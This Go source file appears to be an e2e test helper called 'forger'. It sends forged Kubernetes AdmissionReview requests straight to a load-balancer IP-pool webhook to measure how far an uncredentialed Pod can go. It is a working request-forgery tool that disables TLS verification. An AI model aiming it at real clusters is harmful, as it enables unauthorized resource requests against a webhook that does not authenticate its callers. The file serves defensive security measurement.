// Command forger sends the webhook AdmissionReviews no apiserver sent, as
// any Pod that reaches the webhook's port can: COUNT CREATEs of a
// LoadBalancer Service asking POOL in NAMESPACE, one after the other, and
// prints one JSON line per answer. It needs no credential: the apiserver
// checks the webhook's certificate, the webhook does not check its caller.
// Built static by the e2e suite into an image it imports, to measure what
// docs/security.md says a Pod can do.
//
// Usage: forger URL NAMESPACE POOL COUNT
package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strconv"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
)

// answer is one line of output.
type answer struct {
	Name    string `json:"name"`
	Status  int    `json:"status"`
	Allowed bool   `json:"allowed"`
	Patched bool   `json:"patched"`
	Message string `json:"message,omitempty"`
	Millis  int64  `json:"ms"`
}

func main() {
	if len(os.Args) != 5 {
		fmt.Fprintln(os.Stderr, "usage: forger URL NAMESPACE POOL COUNT")
		os.Exit(2)
	}
	url, namespace, pool := os.Args[1], os.Args[2], os.Args[3]
	count, err := strconv.Atoi(os.Args[4])
	if err != nil {
		fmt.Fprintln(os.Stderr, "COUNT:", err)
		os.Exit(2)
	}
	hc := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}} //nolint:gosec // a forger trusts any server
	for i := range count {
		name := fmt.Sprintf("forged-%d", i)
		a := send(hc, url, review(namespace, name, pool))
		a.Name = name
		line, _ := json.Marshal(a)
		fmt.Println(string(line))
	}
}

func review(namespace, name, pool string) []byte {
	svc := corev1.Service{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Service"},
		ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, Annotations: map[string]string{"scw-lb-ipam.io/pool": pool, "service.beta.kubernetes.io/scw-loadbalancer-private": "true"}},
		Spec:       corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer, Ports: []corev1.ServicePort{{Port: 443}}},
	}
	obj, _ := json.Marshal(svc)
	r := admissionv1.AdmissionReview{
		TypeMeta: metav1.TypeMeta{APIVersion: "admission.k8s.io/v1", Kind: "AdmissionReview"},
		Request: &admissionv1.AdmissionRequest{
			UID: types.UID(fmt.Sprintf("forged-%d", time.Now().UnixNano())), Kind: metav1.GroupVersionKind{Version: "v1", Kind: "Service"},
			Resource: metav1.GroupVersionResource{Version: "v1", Resource: "services"}, Namespace: namespace, Name: name,
			Operation: admissionv1.Create, Object: runtime.RawExtension{Raw: obj},
		},
	}
	b, _ := json.Marshal(r)
	return b
}

func send(hc *http.Client, url string, body []byte) answer {
	began := time.Now()
	resp, err := hc.Post(url, "application/json", bytes.NewReader(body))
	a := answer{Millis: time.Since(began).Milliseconds()}
	if err != nil {
		a.Message = err.Error()
		return a
	}
	defer resp.Body.Close()
	a.Status = resp.StatusCode
	var out admissionv1.AdmissionReview
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil || out.Response == nil {
		a.Message = fmt.Sprintf("no AdmissionReview in the answer: %v", err)
		return a
	}
	a.Allowed, a.Patched = out.Response.Allowed, len(out.Response.Patch) > 0
	if out.Response.Result != nil {
		a.Message = out.Response.Result.Message
	}
	a.Millis = time.Since(began).Milliseconds()
	return a
}
